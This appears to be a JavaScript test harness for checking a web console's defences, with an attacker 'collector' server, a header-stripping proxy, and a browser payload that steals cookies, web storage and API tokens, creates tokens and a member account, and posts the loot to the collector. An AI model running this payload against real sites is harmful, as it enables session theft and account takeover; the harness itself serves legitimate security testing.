// What an attacker hears, and what the server is asked: a collector on a port of its own, and a pane of glass before the server.
import { createServer, request } from 'node:http';

/** Whatever a script does that runs where it should not: take what it finds, act as whoever is there, tell the collector. */
const theft = (collector) => `
const id = import.meta.url.split('/').at(-1), told = ${JSON.stringify(collector)} + '/heard/' + id, got = {};
const attempt = async (what, act) => { try { got[what] = await act() } catch (error) { got[what] = 'failed: ' + error.name } };
const ask = (path, body) => attempt(path + (body ? '!' : ''), async () => {
  const answer = await fetch(path, { credentials: 'include', ...(body && { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) }) });
  return answer.status + ' ' + [...answer.headers].join() + await answer.text();
});
await attempt('cookie', () => document.cookie);
await attempt('local', () => JSON.stringify({ ...localStorage }));
await attempt('session', () => JSON.stringify({ ...sessionStorage }));
await attempt('databases', async () => JSON.stringify(await indexedDB.databases()));
await attempt('caches', async () => (await caches.keys()).join());
await attempt('opener', () => opener.document.documentElement.outerHTML);
await attempt('top', () => top === window ? '' : top.document.cookie);
for (const path of ['/api/whoami', '/api/tokens', '/api/sessions', '/api/s3/credentials', '/api/members']) await ask(path);
await ask('/api/notes', { title: 'Taken by ' + id, body: '' });
await ask('/api/tokens', { name: 'taken' });
await ask('/api/s3/credentials', { name: 'taken' });
await ask('/api/members', { username: 'taken-' + id, role: 'member' });
await fetch(told, { method: 'POST', mode: 'no-cors', body: JSON.stringify(got) });
`;

/** A port of this host. A run that broke off must end, so nothing waits for these. */
const open = (server) => new Promise((resolve) => server.unref().listen(0, '127.0.0.1', () => resolve(server.address().port)));

async function bodyOf(stream) {
  const pieces = [];
  for await (const piece of stream) pieces.push(piece);
  return Buffer.concat(pieces);
}

/** The attacker's own server. `/page/…` are their pages; everything else that arrives is written down under the name at its end. */
export async function openCollector() {
  const heard = [], pages = new Map();
  const server = createServer(async (asked, reply) => {
    const [, kind, name] = new URL(asked.url, 'http://x').pathname.split('/');
    if (kind === 'favicon.ico') return reply.end();
    reply.setHeader('access-control-allow-origin', '*');
    if (kind === 'page') return reply.setHeader('content-type', 'text/html').end(pages.get(name) ?? '');
    heard.push({ name, kind, words: `${asked.url}\n${JSON.stringify(asked.headers)}\n${await bodyOf(asked)}` });
    if (kind === 'theft.js') reply.setHeader('content-type', 'text/javascript');
    reply.end(kind === 'theft.js' ? theft(collector.address) : '');
  });
  const port = await open(server);
  const collector = {
    address: `http://localhost:${port}`,
    heard,
    /** A page of the attacker's, from another site or from another port of the console's own host. */
    page(name, html) {
      pages.set(name, html);
      return { elsewhere: `http://localhost:${port}/page/${name}`, nearby: `http://127.0.0.1:${port}/page/${name}` };
    },
    names: () => [...new Set(heard.map((one) => one.name))].sort(),
    forget: () => heard.splice(0),
    close: () => { server.closeAllConnections(); server.close(); },
  };
  return collector;
}

const WALLS = new Set(['content-security-policy', 'x-content-type-options', 'content-disposition', 'x-frame-options', 'cross-origin-resource-policy']);

/** The server as a browser sees it, with every request written down; `walls = false` takes away what makes browsers careful. */
export async function openGlass(server) {
  const to = new URL(server.address);
  const asked = [];
  const glass = { asked, walls: true, instead: new Map(), say: server.say };
  const pane = createServer((from, back) => {
    const { method, url, headers } = from;
    const note = { method, url, cookie: /atrium_session/.test(headers.cookie ?? ''), site: headers['sec-fetch-site'], mode: headers['sec-fetch-mode'], dest: headers['sec-fetch-dest'], status: 0 };
    asked.push(note);
    // Without the walls the server does not hear either that the browser is about to run what it asks for.
    const passed = glass.walls ? headers : Object.fromEntries(Object.entries(headers).filter(([name]) => name !== 'sec-fetch-dest'));
    const onward = request({ host: to.hostname, port: to.port, method, path: url, headers: passed, setHost: false }, (answer) => {
      note.status = answer.statusCode;
      const old = glass.walls ? undefined : glass.instead.get(new URL(url, to).pathname + new URL(url, to).search);
      const kept = Object.entries(answer.headers).filter(([name]) => glass.walls || !WALLS.has(name));
      if (old) kept.splice(0, kept.length, ['content-type', 'application/xml']);
      back.writeHead(answer.statusCode, Object.fromEntries(kept));
      if (old) { answer.resume(); back.end(old); } else answer.pipe(back);
    });
    onward.on('error', () => back.destroy());
    back.on('close', () => onward.destroy());
    from.pipe(onward);
  });
  glass.address = `http://127.0.0.1:${await open(pane)}`;
  glass.forget = () => asked.splice(0);
  glass.close = () => { pane.closeAllConnections(); pane.close(); };
  return glass;
}
